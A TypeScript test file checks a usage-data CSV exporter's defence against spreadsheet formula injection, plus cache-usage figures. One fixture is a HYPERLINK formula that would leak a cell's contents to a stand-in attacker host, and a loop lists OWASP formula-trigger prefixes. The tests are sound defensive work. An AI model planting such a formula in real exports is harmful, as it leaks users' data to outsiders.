import { describe, expect, it } from "vitest";
import { csvCell, toCsv, toFigures } from "./usage-queries.js";

/** Splits one CSV line into its fields (RFC 4180 quoting), the way a spreadsheet reads them. */
function fields(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let v = "";
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        v += line.slice(i, q);
        if (line[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          i = q + 2;
          break;
        }
      }
      out.push(v);
    } else {
      const c = line.indexOf(",", i);
      const end = c < 0 ? line.length : c;
      out.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return out;
}

describe("usage CSV", () => {
  it("a model name that is a formula is exported as text: quoted and prefixed with '", () => {
    const model = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const csv = toCsv(["id", "model", "cost_usd"], [{ id: "r1", model, cost_usd: 0.5 }]);
    const [head, row] = csv.split("\r\n");
    expect(head).toBe("id,model,cost_usd");
    expect(row).toBe(`r1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",0.5`);
    expect(fields(row!)).toEqual(["r1", `'${model}`, "0.5"]);
  });

  it("neutralises every starting character OWASP lists, and only text", () => {
    for (const s of ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]) {
      const cell = csvCell(s);
      expect(cell.startsWith(`"'`), JSON.stringify(s)).toBe(true);
      expect(fields(cell)).toEqual([`'${s}`]);
    }
    // Numbers stay numbers: a negative amount is not a formula.
    expect(csvCell(-1.25)).toBe("-1.25");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(true)).toBe("true");
    // Plain text, times and JSON cells are untouched apart from RFC 4180 quoting.
    expect(csvCell("gpt-4o")).toBe("gpt-4o");
    expect(csvCell("2026-12-07T10:00:00.000Z")).toBe("2026-12-07T10:00:00.000Z");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell([{ provider: "openai" }])).toBe('"[{""provider"":""openai""}]"');
    expect(csvCell(null)).toBe("");
  });
});

describe("usage figures", () => {
  it("carry cache writes, the cache hit ratio and what caching saved; no ratio without prompt tokens", () => {
    const f = toFigures({ requests: 3, prompt_tokens: 4000, cached_tokens: 3000, cache_creation_tokens: 500, cache_saved_usd: 0.0081 });
    expect(f).toMatchObject({ cache_creation_tokens: 500, cache_hit_ratio: 0.75, cache_saved_usd: 0.0081 });
    expect(toFigures({ requests: 1, prompt_tokens: 0 }).cache_hit_ratio).toBeNull();
    expect(toFigures({ requests: 4, response_cache_hits: 3 }).response_cache_hits).toBe(3);
    expect(toFigures({ requests: 4 }).response_cache_hits).toBe(0);
  });
});
